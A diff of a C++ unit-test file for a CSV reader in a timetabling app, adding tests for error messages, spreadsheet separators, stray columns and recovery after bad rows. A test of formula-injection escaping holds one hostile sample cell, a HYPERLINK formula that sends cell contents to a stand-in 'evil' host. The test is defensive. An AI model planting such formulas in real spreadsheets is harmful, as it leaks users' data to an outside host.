@@ -1,6 +1,7 @@
 #include <ferry/apps/timetabling/io/CsvReader.hpp>
 
 #include <string>
+#include <vector>
 
 #include <doctest/doctest.h>
 
@@ -18,7 +19,7 @@ std::string refusalOf(const std::string& text) {
     try {
         CsvReader table = reader(text);
         while (table.next()) {
-            table.name("room");
+            table.text("room");
             table.number("seats", 0, 500);
         }
     } catch (const InputError& error) {
@@ -34,10 +35,10 @@ TEST_CASE("CsvReader: columns in any order, quoted cells, blanks, both kinds of 
     REQUIRE(table.next());
     CHECK(table.number("seats", 0, 100) == 20);
     CHECK(table.text("building") == "Main, \"old\"");
-    CHECK(table.name("room") == "A.1");
+    CHECK(table.text("room") == "A.1");
     REQUIRE(table.next());
     CHECK_FALSE(table.has("building"));
-    CHECK(table.name("room") == "B");
+    CHECK(table.text("room") == "B");
     CHECK_FALSE(table.next());
 }
 
@@ -51,22 +52,69 @@ TEST_CASE("CsvReader: semicolons separate where the head has them and no comma")
 TEST_CASE("CsvReader: what is wrong is told with file, line and column") {
     CHECK(refusalOf("") == "rooms.csv:1: expected the columns room, seats and optionally building, found ''");
     CHECK(refusalOf("room\nA\n") == "rooms.csv:1: expected a column 'seats', found none");
-    CHECK(refusalOf("room,seats,colour\n") == "rooms.csv:1: expected the columns room, seats and optionally building, found 'colour'");
+    CHECK(refusalOf("room,sets\n") ==
+          "rooms.csv:1: expected the columns room, seats and optionally building, found 'sets'; did you mean 'seats'?");
     CHECK(refusalOf("room,seats,room\n") == "rooms.csv:1: expected each column once, found 'room' twice");
     CHECK(refusalOf("room,seats\nA,1\nB\n") == "rooms.csv:3: expected 2 cells as in the head, found 1");
     CHECK(refusalOf("room,seats\nA,many\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found 'many'");
     CHECK(refusalOf("room,seats\nA,501\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found '501'");
     CHECK(refusalOf("room,seats\nA,\n") == "rooms.csv:2: column 'seats': expected something, found ''");
-    CHECK(refusalOf("room,seats\nA 1,5\n") == "rooms.csv:2: column 'room': expected a name without blanks, found 'A 1'");
-    CHECK(refusalOf("room,seats\n\"A,5\n") == "rooms.csv:2: expected a closing quote in the same line");
+    CHECK(refusalOf("room,seats\n\"A,5\n") == "rooms.csv:2: expected a closing quote, found none; write a quote in a cell as two quotes");
+    CHECK(refusalOf("room,seats\nA,1.000\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found '1.000'");
+    CHECK(refusalOf("room,seats\nA,2.5\n") == "rooms.csv:2: column 'seats': expected a whole number from 0 to 500, found '2.5'");
+    CHECK(refusalOf("room,seats\nA,1,2\n") == "rooms.csv:2: expected 2 cells as in the head, found 3");
     CHECK(refusalOf("room,seats\n\"A\"B,5\n") == "rooms.csv:2: expected ',' behind a closing quote, found 'B,5'");
     CHECK(refusalOf("room,seats\nA,5\n") == "none");
+}
+
+TEST_CASE("CsvReader: what spreadsheets save is read: separators, empty rows and columns, capitals, '40.0', ends of line in cells") {
+    const std::string rows = "A.1 40\nB 20\n";
+    for (const std::string text :
+         {"sep=;\nroom;seats\nA.1;40\nB;20\n", "sep=|\nroom|seats\nA.1|40\nB|20\n", "room\tseats\nA.1\t40\nB\t20\n",
+          "Room,SEATS,,\nA.1,40,,\n,,,\nB,20,,\n,,,\n", "\r\n\r\nroom;seats\r\nA.1;40,0\r\n;\r\nB;20\r\n",
+          "room,seats\rA.1,40.0\rB,20.00\r", "seats,\"room\"\n40,\"A.1\"\n20,\" B\n\"\n",
+          "room,seats,remarks\nA.1,40,\"two\nlines, and a comma\"\nB,20\n"}) {
+        CAPTURE(text);
+        CsvReader table = reader(text);
+        std::string read;
+        while (table.next()) read += table.text("room") + " " + std::to_string(table.number("seats", 0, 500)) + "\n";
+        CHECK(read == rows);
+    }
+}
+
+TEST_CASE("CsvReader: a column that does not count is told, and the line of a row is that of its begin") {
+    CsvReader table = reader("room,seats,bilding\n\"A\n\n1\",1,x\nB,2,x\n");
+    REQUIRE(table.notes().size() == 1);
+    CHECK(table.notes()[0] ==
+          "rooms.csv:1: column 'bilding' is left out; did you mean 'building'?; the columns room, seats and optionally building count");
+    REQUIRE(table.next());
+    CHECK(table.text("room") == "A 1");
+    CHECK(table.line() == 2);
+    REQUIRE(table.next());
+    CHECK(table.line() == 5);
+}
+
+TEST_CASE("CsvReader: after an error the next row can be read") {
+    CsvReader table = reader("room,seats\n\"C\"x,3\nB,2,3\n\"open,1\nD,4\n");
+    std::vector<std::string> errors;
+    std::string rooms;
+    for (bool isMore = true; isMore;) {
+        try {
+            isMore = table.next();
+            if (isMore) rooms += table.text("room");
+        } catch (const InputError& error) {
+            errors.emplace_back(error.what());
+        }
+    }
+    CHECK(rooms == "D");
+    CHECK(errors.size() == 3);
 }
 
 TEST_CASE("csvLine: what a spreadsheet would take for a formula has a quote before it, and each cell is read back as it was") {
     CHECK(csvLine({"=1+1", "+2", "-3", "@x", "\tx"}) == "'=1+1,'+2,'-3,'@x,'\tx\r\n");
     CHECK(csvLine({"a=b", "'s", "''", "1-2", ""}) == "a=b,'s,'',1-2,\r\n");
-    for (const std::string cell : {"=HYPERLINK(\"http://evil/?\"&A1)", "+2", "-2+3", "@SUM(A1)", "'=x", "''=x", "'s", "plain", "'", "'a=b"}) {
+    for (const std::string cell :
+         {"=HYPERLINK(\"http://evil/?\"&A1)", "+2", "-2+3", "@SUM(A1)", "'=x", "''=x", "'s", "plain", "'", "'a=b"}) {
         CAPTURE(cell);
         CsvReader table = reader("seats,room\r\n" + csvLine({"1", cell}));
         REQUIRE(table.next());
